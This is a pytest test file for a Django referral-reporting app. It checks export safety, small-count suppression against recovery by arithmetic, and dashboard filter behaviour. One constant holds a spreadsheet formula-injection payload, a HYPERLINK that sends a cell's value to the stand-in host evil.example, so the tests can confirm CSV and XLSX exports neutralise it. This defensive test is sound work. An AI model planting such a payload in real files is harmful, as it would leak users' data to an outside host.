"""Reports review findings: a grouping named twice is a 400; exports never hold a
formula and write hidden values as `suppressed`; suppression holds within a row
(sla_due = accepted + declined + expired), along a three-way table's published margins
(capacity) and against the total's travel km; a fact row's time to accept is its current
department's; month rows equal day rows after a registry change; the dashboard's filter
choices are the user's own, read without scanning the day grain."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any

import pytest
from openpyxl import load_workbook

from accounts.models import User
from reports.models import ReferralFact
from reports.services import reports_catch_up, reports_rebuild
from reports.tests.scenario import Driver, Network, at, build_network, client_for, get

pytestmark = pytest.mark.django_db


def superuser() -> User:
    return User.objects.create_superuser(username="root-review", password="pw-review-1")


@pytest.mark.parametrize("by", ["specialty,specialty", "period,period"])
def test_duplicate_grouping_is_a_400_not_a_500(scenario: Network, by: str) -> None:
    """Each grouping at most once (it was a 500: the column popped twice)."""
    client = client_for(scenario.referrer_d1)
    client.raise_request_exception = False
    response = client.get("/api/v1/reports/", {"by": by})
    assert response.status_code in (200, 400), response.status_code


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _formula_network(report_settings: Any) -> Network:
    net = build_network()
    d = Driver(net)
    t = at("2025-01-06")
    d.submit(1, net.d1, net.paeds, net.h1p, "p1", t, campaign=FORMULA)
    reports_catch_up()
    return net


def test_csv_export_neutralises_formula_cells(report_settings: Any) -> None:
    """A campaign (free text any referrer types) never starts a CSV cell as a formula."""
    net = _formula_network(report_settings)
    response = get(net.referrer_d1, "", by="campaign", format="csv")
    assert response.status_code == 200
    cells = [c for line in csv.reader(io.StringIO(response.content.decode())) for c in line]
    assert FORMULA in "".join(cells)  # the value is there ...
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []  # ... but must not start a cell as a formula


def test_xlsx_export_does_not_write_formulas(report_settings: Any) -> None:
    """openpyxl stores a str starting with '=' as a formula unless typed as text."""
    net = _formula_network(report_settings)
    response = get(net.referrer_d1, "", by="campaign", format="xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    assert FORMULA in [c.value for row in sheet.iter_rows() for c in row]  # as text


def test_xlsx_export_takes_a_campaign_with_control_characters(report_settings: Any) -> None:
    """Found by fuzzing a running server: openpyxl raised for a C0 control character (a
    campaign pasted with one), and every export grouped by campaign was a 500."""
    net = build_network()
    d = Driver(net)
    d.submit(1, net.d1, net.paeds, net.h1p, "p1", at("2025-01-06"), campaign="dengue\x01\x1b2025")
    reports_catch_up()
    response = get(net.referrer_d1, "", by="campaign", format="xlsx")
    assert response.status_code == 200, response.content[:300]
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    assert "dengue\ufffd\ufffd2025" in [c.value for row in sheet.iter_rows() for c in row]
    csv_text = get(net.referrer_d1, "", by="campaign", format="csv").content.decode()
    assert "dengue\x01\x1b2025" in csv_text  # CSV carries the label as it was typed


def test_summary_csv_writes_suppressed_not_blank(scenario: Network) -> None:
    """The summary's hidden values are written `suppressed`, not left blank."""
    response = get(scenario.ministry, "summary/", country="LA", format="csv")
    assert response.status_code == 200
    lines = {row[0]: row[1] for row in csv.reader(io.StringIO(response.content.decode()))}
    assert lines["submitted"] == "suppressed", lines["submitted"]  # 3 referrals from LA


def test_declined_cannot_be_recovered_from_sla_due_in_the_same_row(scenario: Network) -> None:
    """sla_due = accepted + declined + expired in one row: a hidden `declined` (January
    2025: accepted 6, declined 1, expired 0, sla_due 7) takes another member with it."""
    counts = get(scenario.ministry, "summary/", **{"from": "2025-01-01", "to": "2025-01-31"})
    counts = counts.json()["counts"]
    assert counts["declined"] is None  # primary suppression: 1 < 5
    parts = (counts["sla_due"], counts["accepted"], counts["expired"])
    # Must not all be visible, else declined = sla_due - accepted - expired.
    assert None in parts, f"declined = {parts[0]} - {parts[1]} - {parts[2]}"


def _two_specialties(report_settings: Any) -> Network:
    """D1 in January 2025: 6 paediatric and 2 cardiology referrals closed locally."""
    net = build_network()
    d = Driver(net)
    number = 0
    for specialty, department, count in ((net.paeds, net.h1p, 6), (net.cardio, net.h1c, 2)):
        for _ in range(count):
            number += 1
            t = at("2025-01-06") + timedelta(days=number)
            d.submit(number, net.d1, specialty, department, f"p{number}", t)
            d.act(number, "accept", t + timedelta(hours=1))
            d.advise(number, t + timedelta(hours=2))
            d.close(number, t + timedelta(hours=3), False, "not_applicable")
    reports_catch_up()
    return net


def test_capacity_cells_are_not_recoverable_from_the_facility_total(
    report_settings: Any,
) -> None:
    """The facility x specialty x period table's margins are published elsewhere (the
    facility's total by summary/): a lone hidden cell of a line takes another with it."""
    net = _two_specialties(report_settings)
    window = {"from": "2025-01-01", "to": "2025-01-31", "period": "month"}
    capacity = get(net.ministry, "capacity/", **window).json()["rows"]
    cells = {
        r["specialty_label"]: r["closed_local"] for r in capacity if r["facility"] == net.d1.pk
    }
    assert cells["Cardiology"] is None  # 2 < 5, hidden
    total = get(net.ministry, "summary/", facility=net.d1.pk, **window).json()["counts"]
    visible = [v for k, v in cells.items() if k != "Cardiology"]
    recoverable = total["closed_local"] is not None and None not in visible
    assert not recoverable, f"cardiology = {total['closed_local']} - {sum(visible)}"


def test_time_to_accept_belongs_to_the_department_holding_the_case(report_settings: Any) -> None:
    """Accepted by H1 paediatrics after 2 h, then forwarded (from accepted) to H2: the
    acceptance counts for H1 (``accepted``), but the fact row is H2's now, so it has no
    time to accept until H2 accepts (before, H1's 2 h were reported as H2's response
    time); the SQL rebuild gives the same fact row."""
    net = build_network()
    d = Driver(net)
    t = at("2025-01-06")
    d.submit(1, net.d1, net.paeds, net.h1p, "p1", t)
    d.act(1, "accept", t + timedelta(hours=2))
    d.act(1, "forward", t + timedelta(hours=3), department=net.h2p.pk, reason="Closer.")
    reports_catch_up()
    root = superuser()

    counts = {r["hub_label"]: r["accepted"] for r in get(root, "", by="hub").json()["rows"]}
    assert counts.get("Central Hospital") == 1  # the accept event: H1
    times = get(root, "response-times/", by="hub").json()["rows"]
    assert {r["hub_label"]: r["accept_n"] for r in times if r["accept_n"]} == {}
    assert get(net.consultant_h2, "response-times/").json()["total"]["accept_n"] == 0
    facts = list(ReferralFact.objects.values().order_by("referral_id"))
    reports_rebuild()
    assert list(ReferralFact.objects.values().order_by("referral_id")) == facts

    d.act(1, "accept", t + timedelta(hours=7))  # H2 accepts 4 h after the forward
    reports_catch_up()
    times = get(root, "response-times/", by="hub").json()["rows"]
    accepted = {r["hub_label"]: r["accept_median_hours"] for r in times if r["accept_n"]}
    assert accepted == {"Quang Ninh Provincial Hospital": 4.0}
    facts = list(ReferralFact.objects.values().order_by("referral_id"))
    reports_rebuild()
    assert list(ReferralFact.objects.values().order_by("referral_id")) == facts


def test_dashboard_does_not_list_other_facilities_campaigns(scenario: Network) -> None:
    """The campaign choices are those of the user's scope (C1's `heart-2025` has no D1
    cases)."""
    from django.test import Client

    client = Client()
    client.force_login(scenario.referrer_d1)
    response = client.get("/reports/")
    assert response.status_code == 200
    assert "heart-2025" not in response.content.decode()


def test_month_rows_equal_day_rows_after_a_registry_change(report_settings: Any) -> None:
    """Month rows always equal the day rows summed by month: a day row keeps the
    attributes it was first written with, and later counters on it go to the month rows
    under the same ones (here D1 moves province between two referrals of one day)."""
    net = build_network()
    d = Driver(net)
    d.submit(1, net.d1, net.paeds, net.h1p, "p1", at("2025-01-06"))
    reports_catch_up()
    net.d1.province = net.ha_noi
    net.d1.area = net.ha_noi
    net.d1.save()
    d.submit(2, net.d1, net.paeds, net.h1p, "p2", at("2025-01-06", 2))
    reports_catch_up()
    root = superuser()

    def by_province(**window: str) -> dict[str, int]:
        rows = get(root, "", by="province", **window).json()["rows"]
        return {r["province_label"]: r["submitted"] for r in rows if r["submitted"]}

    month_tables = by_province(**{"from": "2025-01-01", "to": "2025-01-31"})
    day_rows = by_province(**{"from": "2025-01-02", "to": "2025-01-31"})  # a Thursday
    assert month_tables == day_rows


def test_hidden_avoided_cells_cannot_be_solved_from_the_total_travel(scenario: Network) -> None:
    """D1's avoided transfers by hub: both hub cells are hidden (H1 4, H2 1); the total's
    km is avoided x public round-trip distances, a second equation that would solve them,
    so it is hidden too."""
    from reports.tests.scenario import UNIT_KM

    body = get(scenario.ministry, "", by="hub", facility=scenario.d1.pk).json()
    rows = {r["hub_label"]: r for r in body["rows"] if r["submitted"] != 0}
    assert rows["Central Hospital"]["avoided"] is None
    assert rows["Quang Ninh Provincial Hospital"]["avoided"] is None
    total_avoided, total_km = body["total"]["avoided"], body["total"]["travel_km"]
    if total_avoided is not None and total_km is not None:
        d_h1, d_h2 = 2 * UNIT_KM, 1 * UNIT_KM  # haversine of public coordinates
        h1 = (total_km - total_avoided * d_h2) / (d_h1 - d_h2)
        pytest.fail(f"hidden cells recovered: H1 = {h1:.2f}, H2 = {total_avoided - h1:.2f}")
    # D1's total (5) is hidden as well now: the network's 9 - 5 would be the other
    # facilities' 4 (suppression rule 6, the complement of the facility filter).
    assert total_avoided is None
    assert {"travel_km", "travel_cost"} <= set(body["total"]["suppressed"])


def test_dashboard_does_not_scan_the_day_grain_for_its_dropdowns(scenario: Network) -> None:
    """The ministry's dashboard reads its filter choices from the national month table,
    never the day grain (7.9 M rows at the 5 M bench)."""
    from django.db import connection
    from django.test import Client
    from django.test.utils import CaptureQueriesContext

    client = Client()
    client.force_login(scenario.ministry)
    with CaptureQueriesContext(connection) as queries:
        response = client.get("/reports/")
    assert response.status_code == 200
    day_grain = [q["sql"] for q in queries if "reports_dailyrollup" in q["sql"]]
    assert day_grain == []
    assert 'value="heart-2025"' in response.content.decode()  # the ministry's choices


def test_a_bad_dashboard_filter_shows_the_form_again_with_the_problem(scenario: Network) -> None:
    """Dates the wrong way round: the form, with what was chosen and what is wrong, so it
    can be corrected there (not a one-line page), and no figures."""
    from django.test import Client

    client = Client()
    client.force_login(scenario.ministry)

    response = client.get("/reports/", {"from": "2026-12-01", "to": "2026-01-01", "tier": "1"})

    assert response.status_code == 400
    body = response.content.decode()
    assert 'id="report-error"' in body and "on or after" in body
    assert 'id="report-filters"' in body
    assert 'value="2026-12-01"' in body and '<option value="1" selected>' in body
    assert 'data-metric="submitted"' not in body
    refused = Client()
    refused.force_login(scenario.steward)
    page = refused.get("/reports/", {"tier": "9"})
    assert page.status_code == 403 and 'id="report-filters"' not in page.content.decode()


def test_a_hidden_time_carries_no_unit() -> None:
    """The headline read "hidden h" when a median was suppressed."""
    from reports.templatetags.report_figures import HIDDEN, hours

    assert (hours(HIDDEN), hours(None), hours(3.5), hours(12)) == ("hidden", "—", "3.5 h", "12 h")
